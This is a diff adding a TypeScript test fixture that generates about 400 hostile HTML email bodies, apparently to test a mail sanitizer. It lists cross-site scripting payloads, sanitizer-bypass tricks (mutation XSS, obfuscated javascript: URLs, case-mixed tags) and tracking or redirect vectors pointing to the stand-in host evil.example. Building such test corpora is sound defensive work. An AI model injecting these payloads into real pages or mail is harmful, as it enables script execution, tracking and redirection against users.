@@ -1,0 +1,102 @@
+/** HTML that tries to run, to load, to send or to lead away. `evil.example` is never to be asked. */
+const EVIL = 'https://evil.example';
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"><image href="${EVIL}/i"/><script>pwn()</script></svg>`;
+const SVG_DATA = `data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}`;
+const HTML_DATA = `data:text/html;base64,${Buffer.from('<script>pwn()</script>').toString('base64')}`;
+
+const PAYLOADS: readonly string[] = [
+  `<script>pwn()</script>`,
+  `<script src="${EVIL}/s.js"></script>`,
+  `<script/x>pwn()</script/x>`,
+  `<scr<script>ipt>pwn()</scr</script>ipt>`,
+  `<img src=x onerror=pwn()>`,
+  `<img src="x" onerror="pwn()" onload='pwn()'>`,
+  `<img/src="${EVIL}/p.gif"/onerror="pwn()">`,
+  `<img src="${EVIL}/p.gif" width=1 height=1>`,
+  `<img src="//evil.example/p.gif">`,
+  `<img src="\\\\evil.example\\p.gif">`,
+  `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x">`,
+  `<img src="data:image/png;base64,AAAA" srcset="${EVIL}/1.png">`,
+  `<img src="${SVG_DATA}">`,
+  `<img src="data:image/svg+xml,<svg onload=pwn()>">`,
+  `<img src="jav&#x09;ascript:pwn()">`,
+  `<img src=" &#14; javascript:pwn()">`,
+  `<img dynsrc="${EVIL}/x" lowsrc="${EVIL}/y">`,
+  `<image src="${EVIL}/x">`,
+  `<picture><source srcset="${EVIL}/a.webp"><img src="cid:none"></picture>`,
+  SVG,
+  `<svg><style>@import url(${EVIL}/s.css);</style></svg>`,
+  `<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>`,
+  `<svg><use href="${EVIL}/x.svg#a"/></svg>`,
+  `<svg><foreignObject><iframe src="${EVIL}"></iframe></foreignObject></svg>`,
+  `<svg><animate attributeName=href values=javascript:pwn() /></svg>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=pwn()>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">`,
+  `<math href="javascript:pwn()">x</math>`,
+  `<style>@import url("${EVIL}/s.css"); body{background:url(${EVIL}/b)}</style>`,
+  `<style>*{background:url(${EVIL}/all)}</style>`,
+  `<link rel=stylesheet href="${EVIL}/s.css">`,
+  `<link rel="dns-prefetch preconnect prefetch" href="${EVIL}">`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
+  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
+  `<base href="${EVIL}/"><img src="relative.png"><a href="x">x</a>`,
+  `<div style="background:url(${EVIL}/b.png)">x</div>`,
+  `<div style="background-image:u\\72l(${EVIL}/b.png)">x</div>`,
+  `<div style="background:image-set('${EVIL}/b.png' 1x)">x</div>`,
+  `<div style="color:red;background:/**/url('${EVIL}/b.png')">x</div>`,
+  `<div style="behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#a)">x</div>`,
+  `<div style="width:expression(pwn())">x</div>`,
+  `<div style="position:fixed;inset:0;z-index:9999">over</div>`,
+  `<div style="--x:url(${EVIL});background:var(--x)">x</div>`,
+  `<div style="list-style:url(${EVIL}/l);cursor:url(${EVIL}/c),auto;content:url(${EVIL}/k)">x</div>`,
+  `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">x</td></tr></table>`,
+  `<body background="${EVIL}/b.png" onload="pwn()">x</body>`,
+  `<a href="${EVIL}/link" target=_top ping="${EVIL}/ping">link</a>`,
+  `<a href="javascript:pwn()">link</a>`,
+  `<a href="JaVaScRiPt&colon;pwn()">link</a>`,
+  `<a href="${HTML_DATA}">link</a>`,
+  `<a href="vbscript:pwn()">link</a>`,
+  `<area href="${EVIL}" shape=default><map name=m><area href="javascript:pwn()"></map>`,
+  `<form action="${EVIL}/f" method=post><input name=a autofocus onfocus=pwn()><button formaction="${EVIL}">go</button></form>`,
+  `<input type=image src="${EVIL}/i.png">`,
+  `<isindex action="${EVIL}" type=image src="${EVIL}/x">`,
+  `<iframe src="${EVIL}"></iframe>`,
+  `<iframe srcdoc="<script>pwn()</script>"></iframe>`,
+  `<frameset><frame src="${EVIL}"></frameset>`,
+  `<object data="${EVIL}/o.swf"><param name=movie value="${EVIL}/m.swf"></object>`,
+  `<embed src="${EVIL}/e.swf">`,
+  `<applet code=x archive="${EVIL}/a.jar"></applet>`,
+  `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay><track src="${EVIL}/t.vtt"></video>`,
+  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
+  `<bgsound src="${EVIL}/b.wav">`,
+  `<template><img src="${EVIL}/t" onerror=pwn()></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>`,
+  `<textarea><img src="${EVIL}/t"></textarea>`,
+  `<title><img src="${EVIL}/t"></title>`,
+  `<xmp><img src="${EVIL}/t"></xmp><plaintext><img src="${EVIL}/u">`,
+  `<details open ontoggle=pwn()><summary>x</summary></details>`,
+  `<marquee onstart=pwn() behavior=alternate>x</marquee>`,
+  `<p onmouseover=pwn() onclick='pwn()' ONPOINTERENTER=pwn()>x</p>`,
+  `<p id="documentElement" name="body" class="held">x</p>`,
+  `<portal src="${EVIL}"></portal><fencedframe src="${EVIL}"></fencedframe>`,
+  `<blockquote cite="${EVIL}/cite">x</blockquote><q cite="javascript:pwn()">x</q>`,
+  `<!--[if mso]><img src="${EVIL}/mso"><![endif]-->`,
+  `<![CDATA[<img src="${EVIL}/cdata">]]>`,
+  `<?xml-stylesheet href="${EVIL}/s.css"?><?php pwn() ?>`,
+];
+
+const WRAPPERS: readonly ((html: string) => string)[] = [
+  (html) => html,
+  (html) => `<html><head>${html}</head><body><p>Hello</p>${html}</body></html>`,
+  (html) => `<table><tr><td>${html}</td></tr>${html}</table>`,
+  (html) => html.replaceAll(/<(\/?)(\w+)/g, (_all, slash, tag: string) => `<${slash}${odd(tag)}`),
+  (html) => `<p title="a>b">x<!-- > --></p><b><i>${html.replaceAll(' ', '\n')}</b></i>`,
+];
+const odd = (tag: string): string =>
+  tag
+    .split('')
+    .map((letter, n) => (n % 2 === 0 ? letter.toUpperCase() : letter))
+    .join('');
+
+/** About 400 bodies of mails. */
+export const HOSTILE_HTML: readonly string[] = WRAPPERS.flatMap((wrap) => PAYLOADS.map(wrap));
